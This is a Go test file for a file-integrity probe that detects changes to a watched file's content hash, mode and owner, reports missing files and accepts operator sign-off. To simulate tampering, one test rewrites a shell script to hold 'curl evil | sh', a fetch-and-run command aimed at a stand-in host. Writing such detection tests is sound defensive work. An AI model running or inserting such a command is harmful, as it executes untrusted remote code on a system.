package integrity

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/tocsin/tocsin/internal/probe"
)

// run probes path once and judges the result against base, saving what
// Judge returns into base as the server would.
func run(t *testing.T, p *Prober, base map[string]Baseline, at time.Time) probe.Result {
	t.Helper()
	r := p.Probe(context.Background())
	r.Time = at
	r, save := Judge(r, base)
	for _, b := range save {
		base[b.Subject] = b
	}
	return r
}

// TestChangedFile records a baseline on the first run, names a change of
// content, mode and (as root) owner with the time it was first seen, and
// turns green once the change is accepted.
func TestChangedFile(t *testing.T) {
	path := filepath.Join(t.TempDir(), "ship-logs.sh")
	if err := os.WriteFile(path, []byte("#!/bin/sh\nrsync /var/log/txn nas:/txn\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	p, err := New(&Check{Path: path})
	if err != nil {
		t.Fatal(err)
	}
	base := map[string]Baseline{}
	t0 := time.Date(2026, 3, 2, 14, 0, 0, 0, time.UTC)

	r := run(t, p, base, t0)
	if r.Status != probe.OK || !strings.Contains(r.Reason, "baseline recorded on the first run") {
		t.Fatalf("first run = %v %q, want OK with the baseline recorded", r.Status, r.Reason)
	}
	if b := base[path]; b.AcceptedBy != "" || !b.AcceptedAt.Equal(t0) || len(b.Values[FactSHA256]) != 64 || b.Values[FactMode] != "0755" {
		t.Fatalf("recorded baseline = %+v", b)
	}
	if r := run(t, p, base, t0.Add(time.Minute)); r.Status != probe.OK || strings.Contains(r.Reason, "baseline") {
		t.Errorf("unchanged file = %v %q, want OK", r.Status, r.Reason)
	}

	// Tampered with at 14:02: new content, world-writable.
	if err := os.WriteFile(path, []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(path, 0o777); err != nil {
		t.Fatal(err)
	}
	wantOwner := os.Geteuid() == 0
	if wantOwner {
		if err := os.Chown(path, 65534, 65534); err != nil {
			t.Fatal(err)
		}
	} else {
		t.Log("not root: the owner change is not tested")
	}
	r = run(t, p, base, t0.Add(2*time.Minute))
	if r.Status != probe.Critical {
		t.Fatalf("changed file = %v %q, want CRITICAL", r.Status, r.Reason)
	}
	for _, want := range []string{path + ": content changed (sha256 ", " → ", "mode 0755 → 0777", "since 14:02 UTC"} {
		if !strings.Contains(r.Reason, want) {
			t.Errorf("reason %q does not say %q", r.Reason, want)
		}
	}
	if wantOwner && !strings.Contains(r.Reason, "owner root:root → ") {
		t.Errorf("reason %q does not name the new owner", r.Reason)
	}
	// Still changed later: the time is when it was first seen.
	if r := run(t, p, base, t0.Add(10*time.Minute)); r.Status != probe.Critical || !strings.Contains(r.Reason, "since 14:02 UTC") {
		t.Errorf("later run = %v %q, want CRITICAL since 14:02 UTC", r.Status, r.Reason)
	}

	base[path] = base[path].Accept("ana", t0.Add(11*time.Minute))
	if b := base[path]; b.AcceptedBy != "ana" || b.Observed != nil || b.Values[FactMode] != "0777" {
		t.Fatalf("accepted baseline = %+v", b)
	}
	if r := run(t, p, base, t0.Add(12*time.Minute)); r.Status != probe.OK {
		t.Errorf("after acceptance = %v %q, want OK", r.Status, r.Reason)
	}
}

// TestChangedBack clears a change when the file returns to its baseline.
func TestChangedBack(t *testing.T) {
	path := filepath.Join(t.TempDir(), "f")
	if err := os.WriteFile(path, []byte("a"), 0o644); err != nil {
		t.Fatal(err)
	}
	p, _ := New(&Check{Paths: []string{path}})
	base := map[string]Baseline{}
	t0 := time.Date(2026, 3, 2, 14, 0, 0, 0, time.UTC)
	run(t, p, base, t0)
	_ = os.Chmod(path, 0o600)
	if r := run(t, p, base, t0.Add(time.Minute)); r.Status != probe.Critical || !strings.Contains(r.Reason, "mode 0644 → 0600") {
		t.Fatalf("chmod = %v %q", r.Status, r.Reason)
	}
	_ = os.Chmod(path, 0o644)
	if r := run(t, p, base, t0.Add(2*time.Minute)); r.Status != probe.OK || base[path].Observed != nil || !base[path].ChangedAt.IsZero() {
		t.Errorf("changed back = %v %q, baseline %+v", r.Status, r.Reason, base[path])
	}
}

// TestMissingFile is CRITICAL and keeps observing the other files.
func TestMissingFile(t *testing.T) {
	dir := t.TempDir()
	ok := filepath.Join(dir, "ok")
	_ = os.WriteFile(ok, []byte("x"), 0o644)
	p, _ := New(&Check{Paths: []string{ok, filepath.Join(dir, "gone")}})
	r := p.Probe(context.Background())
	if r.Status != probe.Critical || !strings.Contains(r.Reason, "gone: no such file or directory") || len(r.Facts) != 1 {
		t.Errorf("missing file = %v %q, facts %v", r.Status, r.Reason, r.Facts)
	}
}

func TestValidate(t *testing.T) {
	for name, c := range map[string]Check{
		"none":     {},
		"relative": {Path: "bin/x"},
		"twice":    {Path: "/x", Paths: []string{"/x"}},
		"empty":    {Paths: []string{""}},
	} {
		if errs := c.Validate(nil); len(errs) == 0 {
			t.Errorf("%s: no error", name)
		}
	}
	if errs := (&Check{Path: "/usr/local/bin/x", Paths: []string{"/etc/y"}}).Validate(nil); len(errs) != 0 {
		t.Errorf("valid block: %v", errs)
	}
}
